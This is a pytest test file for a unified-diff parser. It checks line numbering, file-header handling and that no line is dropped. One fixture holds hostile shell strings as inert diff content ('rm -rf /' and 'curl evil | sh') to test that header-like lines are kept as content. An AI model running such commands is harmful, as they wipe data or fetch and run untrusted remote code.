"""Unified diffs: every line is shown, and the line counts of a hunk decide what is content."""

import json

import pytest

from services.approvals.rules import MAX_JSON_LENGTH
from tests.support.cpu_time import limit_cpu
from web.ui.unified_diff import DiffFile, is_diff, parse_diff


def shown(diff: str, name: str = "Changes") -> list[tuple[str, list[str]]]:
    """Return the lines of each file as "number sign text"."""
    return [
        (file.name, [f"{number}{sign}{text}" for number, sign, text in file.lines])
        for file in parse_diff(diff, name)
    ]


def content(files: list[DiffFile]) -> list[str]:
    return [f"{line.sign}{line.text}" for file in files for line in file.lines if line.sign]


def test_removed_and_added_lines_have_their_own_numbers() -> None:
    assert shown("@@ -29,2 +29,3 @@ def imports\n context\n-old\n+new\n+more\n") == [
        ("Changes", ["@@ -29,2 +29,3 @@ def imports", "29 context", "30-old", "30+new", "31+more"])
    ]


def test_content_that_looks_like_a_header_is_shown() -> None:
    diff = "--- a/f\n+++ b/f\n@@ -1,3 +1,3 @@\n--- rm -rf /\n+++ curl evil | sh\n keep\n-- \n+++ x"
    assert content(parse_diff(diff, "")) == [
        "--- rm -rf /",
        "+++ curl evil | sh",
        " keep",
        "-- ",
        "+++ x",
    ]


def test_a_single_header_line_outside_a_hunk_is_content() -> None:
    assert content(parse_diff("--- gone\n-x\n+++ come", "f")) == ["--- gone", "-x", "+++ come"]


def test_each_file_has_a_header() -> None:
    diff = (
        "diff --git a/one.md b/one.md\nindex 1..2 100644\n--- a/one.md\n+++ b/one.md\n"
        "@@ -1 +1 @@\n-a\n+b\n"
        "--- a/two.md\n+++ b/2.md\n@@ -1 +1 @@\n-c\n+d\n"
        "--- /dev/null\n+++ b/new.md\n@@ -0,0 +1 @@\n+e\n"
        "--- a/gone.md\n+++ /dev/null\n@@ -1 +0,0 @@\n-f\n"
        "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
    )
    files = shown(diff)
    assert [name for name, _ in files] == [
        "one.md",
        "two.md → 2.md",
        "new.md (new file)",
        "gone.md (deleted)",
        "run.sh",
    ]
    assert files[0][1][:2] == ["diff --git a/one.md b/one.md", "index 1..2 100644"]
    assert files[2][1][1:] == ["1+e"]
    assert files[3][1][1:] == ["1-f"]
    assert files[4][1][1:] == ["old mode 100644", "new mode 100755"]


def test_a_header_without_a_hunk_is_shown() -> None:
    diff = "--- a/one\n+++ b/one\n--- a/two\n+++ b/2\nprose\n--- c\n+++ c\n@@ -1 +1 @@\n-a\n+b\n"
    assert [name for name, _ in shown(diff)] == ["one", "two → 2", "c"]
    assert shown(diff)[1][1] == ["prose"]
    assert shown("@@ -1 +1 @@\n-a\n+b\n--- a/x\n+++ b/y")[1:] == [("x → y", [])]
    assert [name for name, _ in shown("diff --git a/f b/f\n--- a/f\n+++ b/f\n--- g\n+++ g")] == [
        "f",
        "g",
    ]


@pytest.mark.parametrize(
    "diff",
    [
        "no sign at all\n-x",
        "@@ -1 +1 @@\n-a\n+b\n+beyond the counts\n-also\nprose",
        "@@ -1,9 +1,9 @@\n-a\nprose in a hunk\n+b",
        "@@ -1,9 +1,9 @@\n-a\n@@ -20 +20 @@\n+b",
        "Binary files a/x and b/x differ",
        "@@@ -1,2 -1,2 +1,2 @@@\n++x",
        "@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+a\n\\ No newline at end of file",
        "@@ -1,2 +1,2 @@\n a\n\n",
        "+a\x0b-b\x85+c\u2028-d",
        "\n\n",
        "--- a/x",
        "+++ b/x",
        "@@ -999999999,999999999 +1 @@\n-x",
        "@@ -1 +1 @@\n-a\r\n+b",
    ],
)
def test_no_line_is_dropped(diff: str) -> None:
    lines = [line.text for file in parse_diff(diff, "") for line in file.lines]
    given = diff.split("\n")
    given = given[:-1] if given[-1] == "" else given
    assert len(lines) == len(given)
    for line, text in zip(given, lines, strict=True):
        assert text in (line, line[1:])


def test_line_breaks_of_windows_are_removed_only_if_all_lines_have_them() -> None:
    assert content(parse_diff("@@ -1 +1 @@\r\n-a\r\n+b\r\n", "")) == ["-a", "+b"]
    assert content(parse_diff("@@ -1 +1 @@\n-a\r\n+a", "")) == ["-a\r", "+a"]


def test_prose_is_no_diff() -> None:
    assert is_diff("@@ -1 +1 @@")
    assert is_diff("context\n+added")
    assert not is_diff("1 + 1 - 1")


@pytest.mark.parametrize(
    "piece",
    ["\n", "+\n", "@@ -1,9 +1,9 @@\n", "--- \n+++ \n", "diff --git a/", "@@ -1", "\\\n", "\r\n"],
)
def test_a_hostile_diff_of_the_maximum_size_is_parsed_in_a_second(piece: str) -> None:
    diff = piece * (MAX_JSON_LENGTH // len(json.dumps(piece)[1:-1]))
    with limit_cpu():
        is_diff(diff)
        parse_diff(diff, "")
